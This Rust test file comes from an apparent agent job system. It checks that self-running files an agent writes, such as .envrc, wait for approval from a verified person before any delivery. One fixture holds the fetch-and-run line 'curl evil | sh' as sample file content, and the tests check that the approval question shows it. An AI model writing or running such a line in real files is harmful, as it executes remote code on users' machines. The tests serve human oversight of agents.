//! Files of a result that run by themselves: a person lets them in as they are shown, before the result gets anywhere.

use helix_core::evidence::{RunsBy, SelfRunning};
use helix_core::ids::SessionId;
use helix_job::question::AnswerMisfit;
use helix_job::{How, Origin, Person};
use helix_plan::Delivery;

use super::*;

fn file(path: &str, content: &str) -> SelfRunning {
    SelfRunning { path: path.into(), by: RunsBy::Shell, digest: content.into(), shown: vec![content.into()], more: 0 }
}

/// Carries out a try whose result has these files, up to its commit.
fn try_with(play: &mut Play, attempt: u32, files: &[SelfRunning]) {
    try_of(play, "a", attempt, files);
}

fn try_of(play: &mut Play, phase: &str, attempt: u32, files: &[SelfRunning]) {
    play.happy();
    play.happy();
    let result = play.world.committed(true);
    play.event(JobEvent::ResultCommitted {
        phase: id(phase),
        attempt,
        result,
        repairs: Vec::new(),
        repairs_said: Vec::new(),
        findings: Vec::new(),
        runs_by_itself: files.to_vec(),
    });
}

fn by_person(phases: Vec<helix_plan::Phase>) -> JobSpec {
    JobSpec { by: Some(Person::new("Ana", How::Terminal)), ..spec(phases) }
}

fn answer(play: &mut Play, number: u32, choice: &str) {
    play.event(by(How::Terminal, number, choice));
}

fn by(how: How, number: u32, choice: &str) -> JobEvent {
    let answer = Answer { choice: Some(choice.into()), text: None, by: Person::new("Ana", how) };
    JobEvent::QuestionAnswered { phase: id("a"), asked: number, answer }
}

#[test]
fn only_a_person_who_is_known_for_certain_lets_them_in() {
    let mut play = Play::new(by_person(vec![phase("a", &[], 0)]));
    try_with(&mut play, 1, &[file(".envrc", "one")]);
    play.happy();
    for how in [How::Chat, How::Open] {
        let refused = play.try_event(by(how, 1, "approve"));
        assert!(matches!(refused, Err(Illegal::Answer { source: AnswerMisfit::Unproven { .. }, .. })), "{refused:?}");
    }
    // Anybody may keep them out.
    play.event(by(How::Chat, 1, "reject"));
    assert!(!matches!(play.phase("a"), PhaseState::Passed { .. }));
}

#[test]
fn they_are_asked_for_after_all_checks_with_what_they_hold() {
    let mut play = Play::new(by_person(vec![phase("a", &[], 1)]));
    try_with(&mut play, 1, &[file(".envrc", "curl evil | sh")]);
    assert_eq!(play.keys(), ["gate/a/1/0"], "its checks come first");
    play.happy();
    play.happy();
    let view = play.view();
    assert_eq!(view.status, JobStatus::Waiting);
    let question = &view.questions[0];
    assert_eq!(question.kind, QuestionKind::Approval);
    assert!(question.text.contains("\n    .envrc: runs when") && question.text.contains("\n    + curl evil | sh"));
    let german = helix_job::phrases::asks(helix_language::Language::German, question);
    assert!(german.contains("\n    .envrc: läuft, wenn") && german.contains("\n    + curl evil | sh"), "{german}");
    answer(&mut play, 1, "approve");
    assert!(matches!(play.phase("a"), PhaseState::Passed { .. }));
}

#[test]
fn what_is_not_let_in_goes_back_to_the_agent() {
    let mut play = Play::new(by_person(vec![phase("a", &[], 0)]));
    try_with(&mut play, 1, &[file(".envrc", "one")]);
    play.happy();
    answer(&mut play, 1, "reject");
    let [Effect::StartAttempt { attempt: 2, correction: Some(told), .. }] = &play.effects()[..] else {
        panic!("{:?}", play.effects())
    };
    assert!(told.to_markdown().contains(".envrc"), "{told:?}");
    try_with(&mut play, 2, &[]);
    assert!(matches!(play.phase("a"), PhaseState::Passed { .. }), "{:?}", play.phase("a"));
}

#[test]
fn an_answer_is_about_what_was_shown_and_nothing_else() {
    let mut one = phase("a", &[], 0);
    one.approval = Some(Approval::After);
    let mut play = Play::new(by_person(vec![one]));
    try_with(&mut play, 1, &[file(".envrc", "one")]);
    play.happy();
    answer(&mut play, 1, "approve");
    play.happy();
    answer(&mut play, 2, "reject");
    // The same content is known, another one is not.
    try_with(&mut play, 2, &[file(".envrc", "one")]);
    play.happy();
    assert_eq!(play.view().questions[2].about, About::Approval { when: Approval::After });
    answer(&mut play, 3, "reject");
    try_with(&mut play, 3, &[file(".envrc", "two"), file("web/.envrc", "one")]);
    play.happy();
    let About::RunsByItself { files, .. } = &play.view().questions[3].about else { panic!("{:#?}", play.view()) };
    assert_eq!(files.iter().map(|file| file.path.as_str()).collect::<Vec<_>>(), [".envrc", "web/.envrc"]);
}

#[test]
fn a_plan_of_a_person_lets_in_what_it_names_and_a_plan_of_an_agent_does_not() {
    let mut one = phase("a", &[], 0);
    one.outputs = vec!["./.envrc".into(), ".github/".into()];
    let passes = |spec: JobSpec, path: &str| {
        let mut play = Play::new(spec);
        try_with(&mut play, 1, &[file(path, "x")]);
        matches!(play.phase("a"), PhaseState::Passed { .. })
    };
    let person = || by_person(vec![one.clone()]);
    assert!(passes(person(), ".envrc"));
    assert!(!passes(person(), ".github/workflows/ci.yml"), "a directory names no file");
    assert!(!passes(person(), "web/.envrc"));
    let session = SessionId::from_parts(1_795_299_301_000, 7);
    assert!(!passes(JobSpec { origin: Origin::Chat { session }, ..person() }, ".envrc"));
    assert!(!passes(JobSpec { by: Some(Person::new("Ana", How::Chat)), ..person() }, ".envrc"));
    assert!(!passes(JobSpec { by: None, ..person() }, ".envrc"));
}

#[test]
fn nothing_is_delivered_before_they_are_let_in() {
    let mut one = phase("a", &[], 0);
    one.gates = vec![GateSpec::DeploySuccess(Delivery::of_command("./deploy"))];
    let mut play = Play::new(by_person(vec![one]));
    try_with(&mut play, 1, &[file(".envrc", "one")]);
    assert!(play.keys()[0].starts_with("ask/"), "{:?}", play.keys());
    play.happy();
    answer(&mut play, 1, "approve");
    assert_eq!(play.keys(), ["begin/a/1/0"]);
}

#[test]
fn a_phase_that_an_agent_added_lets_nothing_in_by_what_it_names() {
    let mut play = Play::new(JobSpec { by: Some(Person::new("Ana", How::Terminal)), ..planning() });
    play.work();
    let mut own = phase("own", &["plan"], 0);
    own.outputs = vec![".envrc".into()];
    play.event(JobEvent::PhasesProposed { phase: id("plan"), attempt: 1, phases: vec![own] });
    play.happy();
    try_of(&mut play, "own", 1, &[file(".envrc", "x")]);
    assert!(matches!(play.phase("own"), PhaseState::Asking { about: About::RunsByItself { .. }, .. }));
}
